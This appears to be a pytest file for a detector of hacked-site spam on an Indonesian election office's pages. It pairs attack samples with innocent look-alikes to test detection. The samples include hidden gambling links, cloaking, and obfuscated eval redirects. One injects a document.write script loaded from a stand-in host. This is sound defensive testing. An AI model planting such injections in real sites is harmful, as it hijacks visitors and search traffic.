# ruff: noqa: E501  pages and scripts stand here as they come, unbroken
"""Every indicator as a pair: the attack is found under its name, its innocent look-alike is left in peace."""

import datetime
import json
from dataclasses import dataclass

import pytest

from pendopo.site_import.rules.infection import Page, judge, judge_item
from pendopo.site_import.rules.items import Item, Kind
from pendopo.site_import.rules.verdicts import Pile, Sign
from pendopo.sites.rules.infection import DOUBTFUL_FROM, INFECTED_FROM, WEIGHTS, WORDS_ALONE, may_be_infected
from pendopo.sites.rules.infection_words import sign_text, sign_texts
from tests.site_import.labelled import infected, shells

HOST = "kpu-wanasari.example"
SHOP = "https://jual-cepat.example"


def signs(html: str, **more: object) -> dict[str, int]:
    """Codes and points of a page's signs."""
    return {sign.code: sign.points for sign in judge(Page(html, host=HOST, **more)).signs}  # type: ignore[arg-type]


def pile(html: str, **more: object) -> Pile:
    return judge(Page(html, host=HOST, **more)).pile  # type: ignore[arg-type]


def data(**fields: object) -> str:
    return f'<script type="application/ld+json">{json.dumps(fields)}</script>'


@dataclass(frozen=True)
class Pair:
    """An attack and what looks like it; ``code`` is the sign of the first."""

    name: str
    code: str
    attack: str
    innocent: str


LINK = '<a href="https://lp-7.example/">slot gacor hari ini</a>'
OWN_LINKS = '<ul><li><a href="/profil">Profil</a></li><li><a href="https://www.bawaslu.go.id/">Bawaslu</a></li></ul>'
PAIRS = [
    Pair("hidden menu", "hidden_links", f'<div style="display:none">{LINK}</div>', f'<div style="display:none">{OWN_LINKS}</div>'),
    Pair("off screen", "hidden_links", f'<p style="position:absolute;left:-9999px">{LINK}</p>',
         '<a style="position:absolute;left:-9999px" href="#isi">Langsung ke isi</a>'),
    Pair("zero font", "hidden_links", f'<div style="font-size:0">{LINK}</div>', f'<ul style="font-size:0">{OWN_LINKS}</ul>'),
    Pair("same colour", "hidden_links", f'<td style="color:#fff;background:white">{LINK}</td>',
         f'<td style="color:#fff;background:#800000">{OWN_LINKS}</td>'),
    Pair("same colour as what is around", "hidden_links", f'<table bgcolor="#000"><tr><td><b style="color:black">{LINK}</b></td></tr></table>',
         f'<table bgcolor="#800"><tr><td><b style="color:#fff">{OWN_LINKS}</b></td></tr></table>'),
    Pair("clipped", "hidden_links", f'<div style="clip:rect(0 0 0 0);position:absolute">{LINK}</div>',
         f"<style>.sr-only{{position:absolute;clip:rect(0,0,0,0)}}</style><span class='sr-only'>Menu utama</span>{OWN_LINKS}"),
    Pair("see-through", "hidden_links", f'<div style="opacity:.01">{LINK}</div>', f'<div class="slide" style="opacity:0">{OWN_LINKS}</div>'),
    Pair("indented away", "hidden_links", f'<h2 style="text-indent:-9999px">{LINK}</h2>',
         '<h1 style="text-indent:-9999px"><a href="/">KPU Wanasari</a></h1>'),
    Pair("one pixel", "hidden_links", f'<div style="height:1px;overflow:hidden">{LINK}</div>',
         f'<hr style="height:1px;overflow:hidden">{OWN_LINKS}'),
    Pair("marquee", "hidden_links", f'<marquee width=1 height=1>{LINK}</marquee>', f"<marquee>{OWN_LINKS}</marquee>"),
    Pair("rule of a style sheet", "hidden_links", f"<style>.x1 a{{font-size:0}}</style><div class='x1'>{LINK}</div>",
         f"<style>.menu ul{{display:none}}</style><div class='menu'><ul>{OWN_LINKS}</ul></div>"),
    Pair("hidden by a script", "hidden_links", f'<div id="q">{LINK}</div><script>document.getElementById("q").style.left="-4000px"</script>',
         f'<div id="q">{OWN_LINKS}</div><script>document.getElementById("q").style.display="none"</script>'),
    Pair("strangers that nobody sees", "hidden_links",
         '<div style="position:fixed;top:-5000px">' + "".join(f'<a href="https://a{n}.test/">resep</a>' for n in range(4)) + "</div>",
         '<div style="position:fixed;left:-280px">' + "".join(f'<a href="https://a{n}.test/">mitra</a>' for n in range(2)) + "</div>"),
    Pair("hidden text", "hidden_words", '<p style="font-size:0">slot gacor maxwin rtp live deposit pulsa link alternatif</p>',
         '<div class="panel" style="display:none">Waspada slot gacor, maxwin, deposit pulsa: bahaya, laporkan kepada polisi</div>'),
    Pair("one link that sells", "injected_links", f"<p>Kunjungi {LINK}.</p>",
         '<p>Baca <a href="https://koran-pagi.test/1">Polisi Bongkar Situs Slot Gacor</a>.</p>'),
    Pair("link in disguise", "injected_links", '<a href="https://lp-7.example/">S L O T G4C0R</a>', '<a href="https://lp-7.example/">S O P</a>'),
    Pair("link to a host that says what it is", "injected_links", '<a href="https://slot-gacor88.example/">klik</a>',
         '<a href="https://stop-judi-slot.example/">Stop judi</a>'),
    Pair("links of hacked offices to one another", "injected_links", '<a href="https://dinas.wanasari.go.id/x">slot gacor maxwin</a>',
         '<a href="https://www.komdigi.go.id/judi">judi online</a>'),
    Pair("pharmacy", "injected_links", '<a href="https://rx.example/">buy cheap viagra online</a>',
         '<a href="https://www.pom.go.id/">Waspada obat sildenafil ilegal</a>'),
    Pair("brands of a doorway", "brand_list", "".join(f'<a href="/{n}">slot{n} gacor</a>' for n in (77, 88, 99, 138, 303)),
         '<a href="/tag/judi-online">judi online</a><a href="/tag/slot">slot</a><a href="/tag/asn">ASN</a>'),
    Pair("verification", "foreign_verification", '<meta name="google-site-verification" content="a"><meta name="google-site-verification" content="b">',
         '<meta name="google-site-verification" content="a"><meta name="google-site-verification" content="a"><meta name="msvalidate.01" content="c">'),
    Pair("product with a price", "shop_data", data(**{"@type": "Product", "name": "X", "offers": {"price": "10000"}}),
         data(**{"@type": "Event", "name": "Debat", "offers": {"price": "0"}})),
    Pair("game with absurd ratings", "shop_data", data(**{"@type": "Game", "name": "X", "aggregateRating": {"ratingCount": "98.765"}}),
         data(**{"@type": "CreativeWorkSeries", "name": "PPID", "aggregateRating": {"ratingValue": "4.5", "ratingCount": "17"}})),
    Pair("broken data", "shop_data", '<script type="application/ld+json">{"@type":"Product","price":"25.000",</script>',
         '<script type="application/ld+json">{"@type":"Article","headline":"x",</script>'),
    Pair("microdata", "shop_data", '<div itemtype="https://schema.org/Product"><i itemprop="price">1</i></div>',
         '<div itemtype="https://schema.org/Article"><i itemprop="name">1</i></div>'),
    Pair("canonical", "foreign_canonical", f'<link rel="canonical" href="{SHOP}/">', f'<link rel="canonical" href="http://www.{HOST}/a">'),
    Pair("canonical of the nation", "foreign_canonical", f'<link rel="CANONICAL" href="{SHOP}/">', '<link rel="canonical" href="https://www.kpu.go.id/1">'),
    Pair("amphtml", "foreign_canonical", f'<link rel="amphtml" href="{SHOP}/?daftar=x">', '<link rel="amphtml" href="/amp/">'),
    Pair("doorway links", "doorway_parameter", '<a href="/?slot=rajaslot88">masuk</a>', '<a href="/ppid?daftar=informasi-berkala">PPID</a>'),
    Pair("keywords", "keyword_meta", '<meta name="keywords" content="slot gacor, link slot maxwin, rtp live slot, situs slot gacor, agen slot">',
         '<meta name="keywords" content="judi online, bahaya slot gacor, cegah judi, kpu">'),
    Pair("pictures", "foreign_pictures", f'<img src="{SHOP}/1.webp" alt="slot gacor maxwin">', '<img src="/1.jpg" alt="Infografis bahaya slot gacor">'),
    Pair("shop template", "shop_template",
         f'<link rel=stylesheet href="{SHOP}/pdp.css"><div class="pdp-main"><b class="product-price"></b><i class="add-to-cart"></i></div>',
         '<link rel=stylesheet href="/plugins/woocommerce.css"><body class="woocommerce-no-js"><p>Koperasi</p>'),
    Pair("frame", "foreign_frame", f'<iframe src="{SHOP}/" width="0" height="0"></iframe>',
         '<iframe src="https://www.googletagmanager.com/ns.html" height="0" width="0" style="display:none"></iframe>'),
    Pair("meta refresh", "redirect", f'<meta http-equiv="Refresh" content="0; URL={SHOP}/">',
         '<meta http-equiv="refresh" content="5;url=https://kab-wanasari.kpu.go.id/">'),
    Pair("script that moves all", "redirect", f"<script>var t='{SHOP}';window.location.href = t;</script>",
         "<script>if(top.location!=self.location){top.location=self.location.href;}</script>"),
    Pair("script that moves telephones", "conditional_redirect", f"<script>if(/Android/.test(navigator.userAgent))location='{SHOP}/'</script>",
         "<script>if(/Android/.test(navigator.userAgent))location='/m/'</script>"),
    Pair("script that moves who searched", "conditional_redirect", f"<script>if(document.referrer.match(/google/))location.replace('{SHOP}/')</script>",
         f"<script>{shells.REFERRER}</script>"),
    Pair("codes of letters", "obfuscated_script",
         "<script>eval(String.fromCharCode(" + ",".join(str(ord(one)) for one in f"location.href='{SHOP}'") + "))</script>",
         f"<script>{shells.EMOJI}</script><script>{shells.MAIL_CODES}</script>"),
    Pair("base64", "obfuscated_script", "<script>eval(atob('bG9jYXRpb24uaHJlZj0naHR0cHM6Ly94LmV4YW1wbGUn'))</script>",
         "<script>var gambar='data:image/png;base64,iVBORw0KGgoAAAANSUhEUg';</script>"),
    Pair("escapes", "obfuscated_script", "<script>eval('" + "".join(f"\\x{ord(one):02x}" for one in f"document.location='{SHOP}/'") + "')</script>",
         "<script>var nama='Caf\\u00e9 \\x41';</script>"),
    Pair("renamed by a machine", "obfuscated_script", "<script>" + "var _0x1a2b=_0x3c4d(0x1);" * 20 + "</script>", f"<script>{shells.JQUERY}</script>"),
    Pair("packed", "obfuscated_script", infected.packed_script(__import__("random").Random(1)).head, "<p>eval(function(p,a,c,k,e,d) dalam teks</p>"),
    Pair("written script", "foreign_script", f"<script>document.write('<script src=\"{SHOP}/x.js\"><\\/script>')</script>",
         f"<script>{shells.ANALYTICS[2]}</script>"),
    Pair("kana", "spam_title", "<title>【送料無料】ブランド バッグ 激安 - KPU Wanasari</title>", "<title>Kunjungan Duta Besar Jepang (日本国大使館)</title>"),
    Pair("pharmacy in the title", "spam_title", "<title>Buy Cheap Viagra Online</title>", "<title>Waspada Obat Sildenafil Ilegal</title>"),
    Pair("gambling in the title", "spam_title", "<title>SLOT88: Situs Slot Gacor Maxwin Terpercaya</title>",
         "<title>Waspada Situs Slot Gacor Maxwin</title>"),
]  # fmt: skip


NOT_ENOUGH_ALONE = {"gambling in the title"}


@pytest.mark.parametrize("pair", PAIRS, ids=lambda pair: pair.name)
def test_an_attack_is_found_and_its_look_alike_is_not(pair: Pair) -> None:
    assert pair.code in signs(pair.attack)
    assert pile(pair.innocent) is Pile.CLEAN
    assert (pile(pair.attack) is Pile.CLEAN) is (pair.name in NOT_ENOUGH_ALONE)


@pytest.mark.parametrize("pair", PAIRS, ids=lambda pair: pair.name)
def test_the_look_alike_beside_it_does_not_hide_an_attack(pair: Pair) -> None:
    assert signs(pair.innocent + pair.attack).get(pair.code, 0) >= signs(pair.attack)[pair.code] * 0.99 or pair.code == "spam_title"


@pytest.mark.parametrize("pair", PAIRS, ids=lambda pair: pair.name)
def test_case_of_tags_and_quotes_do_not_matter(pair: Pair) -> None:
    if "<script" not in pair.attack:
        assert signs(pair.attack.replace("<a href=", "<A  HREF = ").replace("style=", "STYLE=")) == signs(pair.attack)


@pytest.mark.parametrize("pair", PAIRS, ids=lambda pair: pair.name)
def test_the_quick_look_lets_nothing_pass_that_is_infected(pair: Pair) -> None:
    if pile(pair.attack) is Pile.INFECTED:
        assert may_be_infected(pair.attack.encode())


def test_cloaking_is_found_by_two_fetches() -> None:
    clean = "<title>KPU</title><p>Rapat pleno</p>"
    for only_for_robots in (
        LINK,
        "<p>slot gacor maxwin rtp live deposit pulsa bonus new member</p>",
        "<title>激安 ブランド 通販 セール</title>",
    ):
        verdict = judge(Page(clean, host=HOST, as_crawler=only_for_robots + clean))
        assert verdict.pile is Pile.INFECTED
        assert "cloaking" in {sign.code for sign in verdict.signs}


def test_two_answers_of_a_living_page_are_no_cloaking() -> None:
    page = "<title>KPU</title><p>Pengunjung ke-{n}</p><a href='/berita/{n}'>Berita {n}</a><script nonce={n}></script>"
    other = "<title>KPU</title><p>Pengunjung ke-9</p><a href='https://koran-pagi.test/'>Koran</a><a href='https://radio.test/'>Radio</a>"
    assert judge(Page(page.format(n=1), host=HOST, as_crawler=page.format(n=2))).pile is Pile.CLEAN
    assert judge(Page(page.format(n=1), host=HOST, as_crawler=other)).pile is Pile.CLEAN
    assert judge(Page(page.format(n=1), host=HOST, as_crawler="<title>Just a moment...</title>")).pile is Pile.CLEAN
    assert judge(Page(page.format(n=1), host=HOST, as_crawler="")).pile is Pile.CLEAN


def test_a_warning_in_the_crawlers_answer_alone_is_no_cloaking() -> None:
    assert (
        judge(
            Page("<p>a</p>", host=HOST, as_crawler="<p>Waspada bahaya slot gacor, maxwin, togel, rtp live. Laporkan ke polisi.</p>")
        ).score
        < DOUBTFUL_FROM
    )


def test_a_doorway_address_is_found_and_a_search_for_the_word_is_not() -> None:
    assert "doorway_parameter" in signs("<p>x</p>", address="/?daftar=rajaslot88")
    assert "doorway_parameter" in signs("<p>x</p>", address="https://kpu.example/index.php?SLOT=gacor")
    for innocent in ("/?s=slot+gacor", "/?daftar=pemilih", "/?login=1", "/?p=88", "/?slot=3", "/berita/waspada-slot-gacor"):
        assert pile("<p>x</p>", address=innocent) is Pile.CLEAN


def test_words_alone_stay_below_the_doubtful_pile() -> None:
    assert sum(WEIGHTS[name] for name in WORDS_ALONE) < DOUBTFUL_FROM
    prose = "slot gacor maxwin rtp live deposit pulsa link alternatif gampang menang bonus new member situs terpercaya. " * 40
    assert pile(f"<h1>Slot gacor maxwin</h1><p>{prose}</p>", address="/slot-gacor-maxwin") is Pile.CLEAN


def test_an_offices_own_warning_is_clean_however_it_is_worded() -> None:
    terms = ("slot gacor", "maxwin", "scatter", "RTP", "judi online", "togel", "deposit pulsa", "link alternatif", "situs terpercaya")
    for term in terms:
        body = f"<h1>{term}</h1><h2>Apa itu {term}?</h2><ul>{''.join(f'<li>{one}</li>' for one in terms)}</ul><p>Iklan {term} menipu.</p>"
        assert pile(body, title=f"Mengenal {term.title()}", address=f"/berita/mengenal-{term.replace(' ', '-')}") is Pile.CLEAN


def test_a_late_change_weighs_only_beside_another_sign() -> None:
    long_ago, now = datetime.datetime(2018, 1, 1, tzinfo=datetime.UTC), datetime.datetime(2024, 1, 1, tzinfo=datetime.UTC)
    assert signs("<p>Rapat</p>", published=long_ago, updated=now) == {}
    assert "changed_later" in signs(LINK, published=long_ago, updated=now)
    assert "changed_later" not in signs(LINK, published=now, updated=now)


def test_hosts_of_the_office_are_its_own_whatever_they_are_called() -> None:
    html = f'<link rel="canonical" href="{SHOP}/"><iframe src="{SHOP}/" width=0 height=0></iframe>'
    assert signs(html, own_hosts=("jual-cepat.example",)) == {}
    assert signs(html, own_hosts=("WWW.jual-cepat.example:443",)) == {}
    assert len(signs(html)) == 2


def test_what_stands_behind_the_end_of_a_page_is_read() -> None:
    assert pile(f'<html><body><p>a</p></body></html><div style="display:none">{LINK}</div>') is Pile.INFECTED
    assert pile(f"<html><body><p>a</p></BODY ></HTML x>{LINK * 5}") is Pile.INFECTED


def test_a_sign_names_its_place_without_numbers_of_persons() -> None:
    verdict = judge(Page('<div style="display:none"><a href="https://x.example/">slot gacor 0812 3456 7890</a></div>', host=HOST))
    assert "slot gacor" in verdict.signs[0].where
    assert "3456" not in verdict.signs[0].where
    assert len(judge(Page(f'<a href="https://x.example/{"a" * 900}">slot gacor</a>', host=HOST)).signs[0].where) <= 200


def test_points_add_up_to_a_hundred_at_most_and_the_heaviest_comes_first() -> None:
    verdict = judge(Page("".join(pair.attack for pair in PAIRS), host=HOST))
    assert verdict.score == 100
    assert list(verdict.signs) == sorted(verdict.signs, key=lambda sign: (-sign.points, sign.code))
    assert len({sign.code for sign in verdict.signs}) == len(verdict.signs)
    assert verdict.score >= INFECTED_FROM


def test_every_sign_has_words_for_an_officer() -> None:
    codes = {name.partition(".")[0] for name in WEIGHTS}
    assert codes <= set(sign_texts(str))
    assert sign_text(Sign("cloaking", 1), str) == "isi lain bagi mesin pencari"
    assert sign_text(Sign("unknown", 1), str) == "unknown"


def test_an_item_is_judged_by_its_page_title_keywords_and_summary() -> None:
    def item(**fields: object) -> Item:
        return Item("post-1", Kind.POST, **({"title": "Rapat", "html": "<p>Rapat pleno</p>"} | fields))  # type: ignore[arg-type]

    assert judge_item(item(), host=HOST).signs == ()
    assert judge_item(item(page=LINK * 6), host=HOST).pile is Pile.INFECTED
    assert judge_item(item(title="【送料無料】激安 ブランド"), host=HOST).pile is not Pile.CLEAN
    assert judge_item(item(tags=tuple(infected.SELL[:6])), host=HOST).pile is not Pile.CLEAN
    assert judge_item(item(summary='"> <b>slot gacor maxwin deposit pulsa'), host=HOST).signs
    assert judge_item(item(), host=HOST, as_crawler=f"<p>Rapat pleno</p>{LINK}").pile is Pile.INFECTED
    assert judge_item(item(tags=("judi online", "ASN"), summary="Waspada judi online"), host=HOST).signs == ()
